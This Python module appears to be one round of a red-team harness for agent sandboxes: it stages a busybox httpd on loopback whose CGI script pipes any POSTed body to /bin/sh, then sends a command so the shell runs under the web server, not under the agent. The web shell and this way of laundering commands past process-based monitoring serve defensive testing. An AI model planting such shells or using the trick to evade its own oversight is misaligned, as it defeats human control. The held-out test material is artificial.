"""Round 7: a command POSTed to a CGI script of a local web server (busybox httpd) that runs it with sh.

A web shell on loopback: ``busybox httpd`` (staged before the victims,
outside their trees) serves ``cgi-bin/run``, which pipes the request body
to sh.  The agent only makes an HTTP request; httpd forks the CGI and the
shell under itself.
"""

from __future__ import annotations

import socket
import urllib.request
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 5
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 7
STAGE = True
EXPECT = ("L2",)
IP = "127.0.7.51"
CGI = """#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
head -c "${CONTENT_LENGTH:-0}" | /bin/sh
echo ran
"""


def _files(work: str) -> tuple[Path, Path, Path]:
    d = Path(work).parent / "daemons"
    return d / "r7-www", d / "r7-www.port", d / "r7-www.pid"


def _up(port: int) -> bool:
    try:
        with socket.create_connection((IP, port), timeout=1):
            return True
    except OSError:
        return False


def stage(args: dict[str, Any]) -> None:
    www, portfile, pid = _files(args["work"])
    (www / "cgi-bin").mkdir(parents=True, exist_ok=True)
    cgi = www / "cgi-bin" / "run"
    cgi.write_text(CGI)
    cgi.chmod(0o755)
    with socket.socket() as s:  # a free port on our own address
        s.bind((rt.loopback(IP), 0))
        port = s.getsockname()[1]
    portfile.write_text(str(port))
    rt.stage_daemon(["busybox", "httpd", "-f", "-p", f"{IP}:{port}", "-h", str(www)], pid, lambda: _up(port))


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_files(args["work"])[2])


def run(args: dict[str, Any]) -> None:
    marker = str(args["marker"])
    port = int(_files(args["work"])[1].read_text())
    req = urllib.request.Request(
        f"http://{IP}:{port}/cgi-bin/run", f"touch '{marker}'\n".encode(), method="POST"
    )
    t = rt.now()
    with urllib.request.urlopen(req, timeout=10) as r:
        body = r.read().decode(errors="replace").strip()
    ok = rt.wait_file(marker)
    rt.report(t, ok, f"POST to {IP}:{port}/cgi-bin/run: {body!r}, marker {'created' if ok else 'missing'}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
